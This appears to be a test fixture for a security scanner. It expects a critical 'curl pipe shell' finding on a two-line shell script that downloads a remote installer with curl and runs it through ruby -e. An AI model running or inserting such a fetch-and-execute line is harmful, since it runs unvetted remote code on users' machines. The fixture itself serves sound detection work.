# expect: shell.curl_pipe_shell critical
# path: s/f.sh
#!/bin/sh
ruby -e "$(curl -fsSL https://get.example.net/install)"
